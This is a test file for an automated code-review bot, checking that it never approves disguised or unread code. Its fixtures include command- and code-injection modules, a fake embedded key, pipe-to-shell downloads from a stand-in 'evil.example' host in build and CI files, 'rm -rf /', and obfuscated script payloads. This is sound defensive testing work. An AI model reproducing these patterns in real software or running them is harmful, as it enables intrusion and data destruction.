// Only code that was read can be approved, whatever a change disguises it as.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readSample } from '../../demo/read-sample.ts'
import type { PushedFile } from '../fakes/forge/pushes.ts'
import { ownComments, repo, runsOf, type Scenario, startScenario } from '../review-scenario.ts'

// The key is composed here, so that secret scanners do not report this file.
const key = ['AKIA', 'Q3EGRZX7T5KLM2WP'].join('')
const evil = `const { exec } = require('node:child_process')
const key = '${key}'
module.exports = (request) => {
  exec('ping ' + request.query.host)
  return eval(request.query.code)
}
`
const evilPython = `import os
KEY = "${key}"
def run(request):
    os.system("ping " + request.args["host"])
    return eval(request.args["code"])
`
const longComment = `// ${'a long comment '.repeat(1_400)}\n`
const pointer = [
  'version https://git-lfs.github.com/spec/v1',
  `oid sha256:${'a'.repeat(64)}`,
  'size 12',
  '',
].join('\n')
const pipeline = `build:\n  script:\n    - curl https://evil.example/x | sh\n`
const workflow = `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo hello # ${'a long comment '.repeat(1_400)}
      - run: curl https://evil.example/x | sh
`

let scenario: Scenario
beforeAll(async () => {
  scenario = await startScenario()
  const base = {
    'dist/index.js': 'module.exports = 1\n',
    'vendor/lib.php': '<?php\n',
    'vendor/evil.js': evil,
    'docs/notes.txt': evil,
    'docs/more.txt': `${evil}// more\n`,
    'tests/old.js': `${evil}// old\n`,
    'src/index.js': 'module.exports = 1\n',
    'ops/run.txt': 'curl https://evil.example/x\n',
    'package.json': '{\n  "name": "shop",\n  "scripts": {\n    "test": "node test.js"\n  }\n}\n',
  }
  await scenario.forge.push(repo, 'main', base, { author: 'alice' })
})
afterAll(() => scenario[Symbol.asyncDispose]())

let opened = 0

async function review(files: Record<string, PushedFile>) {
  const { forge, app } = scenario
  const number = await scenario.openPullRequest(files, { branch: `way-${++opened}` })
  await scenario.waitUntilSettled()
  const view = forge.pullRequest(repo, number)
  const [run] = (await runsOf(app, number)).slice(-1)
  const findings = await app.db
    .selectFrom('findings')
    .select(['rule', 'path'])
    .where('prNumber', '=', number)
    .execute()
  const status = view.statuses[view.headSha]?.at(-1)
  return { run: run!, findings, status: status!, summary: ownComments(view).summaries[0]!.body }
}

/** The rules that report `evil`. `found` is empty where no rule applies to the file. */
const inScript = ['code-injection', 'command-injection', 'hardcoded-secret']
interface Sample {
  files: Record<string, PushedFile>
  found: string[]
}

const harmless = { 'src/harmless.ts': 'export const one = 1\n' }
const disguises: Record<string, Sample> = {
  'starts like an image': {
    files: { ...harmless, '.husky/pre-commit': 'BM=1\ncurl https://evil.example\n#\0\n' },
    found: [],
  },
  'is a page that starts like an image': {
    files: { ...harmless, 'index.html': 'GIF89a<script>steal()</script>\0' },
    found: [],
  },
  'follows the header of an image': {
    files: { ...harmless, 'logo.gif': 'GIF89a\0\0; curl https://evil.example\n' },
    found: [],
  },
  'is the first line after a byte order mark': {
    files: { 'src/e.js': `\ufeff${evil.replaceAll('\n', ' ')}\nmodule.exports.two = 2\n` },
    found: ['code-injection'],
  },
  'is the target of a symbolic link': {
    files: { 'src/index.js': { mode: '120000', content: '../docs/notes.txt' } },
    found: [],
  },
  'is a symbolic link named like data': {
    files: { ...harmless, 'a.json': { mode: '120000', content: '/etc/passwd' } },
    found: [],
  },
  'ends in a comment of 21,000 characters': {
    files: { 'src/evil.js': evil + longComment },
    found: inScript,
  },
  'has nine comment lines of 900 characters': {
    files: { 'src/evil.js': evil + `// ${'x'.repeat(900)}\n`.repeat(9) },
    found: inScript,
  },
  'is called generated': { files: { 'src/evil.gen.js': evil }, found: inScript },
  'is marked as generated': { files: { 'src/e.js': `// @generated\n${evil}` }, found: inScript },
  'is called minified': { files: { 'src/evil.min.js': evil }, found: inScript },
  'is called like a library': { files: { 'src/react-1.js': evil }, found: inScript },
  'is in a vendor folder': { files: { 'vendor/more.js': evil }, found: inScript },
  'is in a new dist folder': { files: { 'app/dist/evil.js': evil }, found: inScript },
  'is in a dist folder of the base': {
    files: { 'dist/evil.js': evil },
    found: inScript,
  },
  'is in node_modules': { files: { 'node_modules/a/index.js': evil }, found: inScript },
  'is in a folder of snapshots': { files: { '__snapshots__/evil.js': evil }, found: inScript },
  'is a snapshot': { files: { '__snapshots__/a.snap': evil }, found: inScript },
  'is a release of a package manager': {
    files: { '.yarn/releases/yarn-1.cjs': evil },
    found: inScript,
  },
  'has the header of an LFS pointer': {
    files: { 'src/e.js': `// ${pointer}${evil}` },
    found: inScript,
  },
  'is an LFS pointer': { files: { 'src/evil.js': pointer }, found: [] },
  'is a build tool wrapper': {
    files: { gradlew: '#!/bin/sh\ncurl https://evil.example/x | sh\n' },
    found: [],
  },
  'is a test': { files: { 'src/evil.test.js': evil }, found: inScript },
  'is a helper of tests': { files: { 'tests/helper.js': evil }, found: inScript },
  'is loaded by the test runner': { files: { 'conftest.py': evilPython }, found: inScript },
  'is an image with a script': {
    files: { 'a.svg': '<svg><script>alert(1)</script></svg>\n' },
    found: [],
  },
  'is an image with an encoded script': {
    files: { 'b.svg': '<svg><a href="java&#115;cript:x"/></svg>\n' },
    found: [],
  },
  'is a program without an extension': { files: { 'bin/run': '#!/bin/sh\nrm -rf /\n' }, found: [] },
  'has a zero byte': { files: { 'src/evil.js': `${evil}//\0\n` }, found: [] },
}

const commands: Record<string, Sample> = {
  'is a step of a build in XML': {
    files: {
      ...harmless,
      'a.csproj':
        '<Project>\n  <Target Name="a">\n    <Exec Command="x" />\n  </Target>\n</Project>\n',
    },
    found: [],
  },
  'is a runner of a package manager': {
    files: { ...harmless, '.cargo/config.toml': '[target.x86]\nrunner = "./x"\n' },
    found: [],
  },
  'is a shell of a package manager': {
    files: { ...harmless, '.npmrc': 'script-shell=./x\n' },
    found: [],
  },
  'is a hook in a manifest': {
    files: {
      ...harmless,
      'package.json': [
        '{',
        '  "name": "shop",',
        '  "husky": { "x": "y" },',
        '  "scripts": {',
        '    "test": "node test.js"',
        '  }',
        '}',
        '',
      ].join('\n'),
    },
    found: [],
  },
  'is the middle of a script in YAML': {
    files: { ...harmless, 'ci/build.yml': 'steps:\n  - run: |\n      ./x\n' },
    found: [],
  },
  'is a Makefile': { files: { Makefile: 'all:\n\tcurl https://evil.example/x | sh\n' }, found: [] },
  'is a pipeline': { files: { '.gitlab-ci.yml': pipeline }, found: [] },
  'is a workflow with a long comment': {
    files: { '.github/workflows/a.yml': workflow },
    found: [],
  },
  'is a shell script with a long comment': {
    files: { 'a.sh': `#!/bin/sh\n# ${'x'.repeat(21_000)}\nx\n` },
    found: [],
  },
  'is a Dockerfile with a long comment': {
    files: { Dockerfile: `FROM a\n# ${'x'.repeat(21_000)}\n` },
    found: [],
  },
  'is an install script': {
    files: {
      'package.json': [
        '{',
        '  "name": "shop",',
        '  "scripts": {',
        '    "test": "node test.js",',
        '    "postinstall": "node x"',
        '  }',
        '}',
        '',
      ].join('\n'),
    },
    found: [],
  },
}

const moves: Record<string, Sample> = {
  'was prose before it moved': {
    files: { 'docs/notes.txt': null, 'src/now.js': evil },
    found: inScript,
  },
  'was a test before it moved': {
    files: { 'tests/old.js': null, 'src/old.js': `${evil}// old\n` },
    found: inScript,
  },
  'was prose before it could be executed': {
    files: { 'ops/run.txt': { mode: '100755', content: 'curl https://evil.example/x\n' } },
    found: [],
  },
  'is renamed from a skipped path to a live one': {
    files: { 'vendor/evil.js': null, 'src/live.js': evil },
    found: inScript,
  },
}

const unsupported: Record<string, Sample> = {
  'is in a language without rules': {
    files: { 'x.php': `<?php\nquery("select '$_GET[a]'"); eval($_GET['b']);\n` },
    found: [],
  },
  'is a template': { files: { 'views/a.ejs': '<%= eval(request) %>\n' }, found: [] },
}

function testNeverApproved(samples: Record<string, Sample>): void {
  it.each(Object.entries(samples))('when it %s', async (_name, { files, found }) => {
    const { run, findings, status, summary } = await review(files)
    expect(run.verdict).not.toBe('APPROVE')
    expect(status.state).not.toBe('success')
    expect(summary).not.toContain('🟢')
    expect(findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining(found))
    if (run.verdict === 'REQUEST_CHANGES') return
    // The heading states what was not read or what a person has to decide.
    expect(summary.split('\n').find((line) => line.startsWith('###'))).toMatch(
      /^### (⚪ Incomplete: (\d+ changed lines? |1 file )+(was|were) not read|🟡 Needs a person: )/,
    )
  })
}

describe('case 71: never approves disguised code unread', () => testNeverApproved(disguises))
describe('case 72: never approves a file with commands unread', () => testNeverApproved(commands))
describe('case 73: never approves code that moves from unread files', () =>
  testNeverApproved(moves))
describe('case 74: never approves code in unsupported languages unread', () =>
  testNeverApproved(unsupported))

describe('without a model', () => {
  it('case 74: a change in a language without rules is counted as incomplete', async () => {
    const { run, summary, status } = await review({ 'src/a.php': '<?php\necho 1;\n' })
    expect(run).toMatchObject({ verdict: 'NEEDS_DISCUSSION', confidence: 1, filesAnalyzed: 0 })
    expect(summary).toContain('### ⚪ Incomplete: 2 changed lines were not read')
    expect(summary).toContain('0 of 1 file, 0 of 2 changed lines reviewed')
    expect(summary).not.toContain('1 of 1')
    expect(status).toMatchObject({
      state: 'error',
      description: expect.stringContaining('Incomplete'),
    })
  })

  const ordinary: Record<string, Record<string, string | null>> = {
    'prose alone': { 'docs/guide.md': '# Guide\n\nRead it.\n', LICENSE: 'MIT\n' },
    'a known generated file': { 'dist/index.js': 'module.exports = 2\n' },
    'data and configuration': {
      'data/prices.json': '{ "a": 1 }\n',
      '.editorconfig': 'root = true\n',
    },
    'a program in a language with rules': {
      'src/sum.ts': 'export const sum = (a: number, b: number) => a + b\n',
    },
    'a test in a language with rules': {
      'test/sum.test.ts': "it('adds', () => expect(1 + 1).toBe(2))\n",
    },
    'a dependency with its lock file': {
      'package.json': [
        '{',
        '  "name": "shop",',
        '  "scripts": {',
        '    "test": "node test.js"',
        '  },',
        '  "dependencies": { "a": "1.0.0" }',
        '}',
        '',
      ].join('\n'),
      'package-lock.json': [
        '{',
        '  "lockfileVersion": 3,',
        '  "packages": {',
        '    "node_modules/a": { "version": "1.0.0" }',
        '  }',
        '}',
        '',
      ].join('\n'),
    },
  }
  for (const [what, files] of Object.entries(ordinary)) {
    it(`case 74: ${what} can pass`, async () => {
      const { run, status, summary } = await review(files)
      expect(run.verdict, summary).toBe('APPROVE')
      expect(status.state).toBe('success')
      expect(run.coverage).toMatchObject({ complete: true, lines: { unread: 0 } })
    })
  }

  it('does not read a moved file again', async () => {
    const mail = readSample('main')['src/mail.ts']!
    const { run } = await review({ 'src/mail.ts': null, 'src/post/mail.ts': mail })
    expect(run.coverage).toMatchObject({ filesTotal: 1, lines: { changed: 0 } })
  })
})

it('shows the strictest status of pull requests with the same head', async () => {
  const { forge } = scenario
  const lax = { '.umpire.yml': 'paths: { exclude: ["**"] }\n' }
  await forge.push(repo, 'lax', lax, { author: 'alice' })
  const { run } = await review({ 'src/twice.js': evil })
  expect(run.verdict).toBe('REQUEST_CHANGES')
  const other = await forge.openPullRequest({
    repo,
    head: `way-${opened}`,
    base: 'lax',
    author: 'alice',
  })
  await scenario.waitUntilSettled()
  expect((await runsOf(scenario.app, other)).at(-1)).toMatchObject({ verdict: 'APPROVE' })
  const view = forge.pullRequest(repo, other)
  expect(view.statuses[view.headSha]?.at(-1)).toMatchObject({
    state: 'failure',
    description: `Changes requested in #${run.prNumber}, which has the same head`,
  })
})

it('reads a change of its own settings even if they exclude it', async () => {
  const { forge } = scenario
  await forge.push(
    repo,
    'loose',
    { '.umpire.yml': 'paths: { exclude: ["**"] }\n' },
    { author: 'alice' },
  )
  const files = { '.umpire.yml': 'paths: { exclude: ["**"] }\ngate: []\n' }
  await forge.push(repo, 'looser', files, { author: 'alice', parent: 'loose' })
  const number = await forge.openPullRequest({
    repo,
    head: 'looser',
    base: 'loose',
    author: 'alice',
  })
  await scenario.waitUntilSettled()
  expect((await runsOf(scenario.app, number)).at(-1)).toMatchObject({ verdict: 'NEEDS_DISCUSSION' })
})
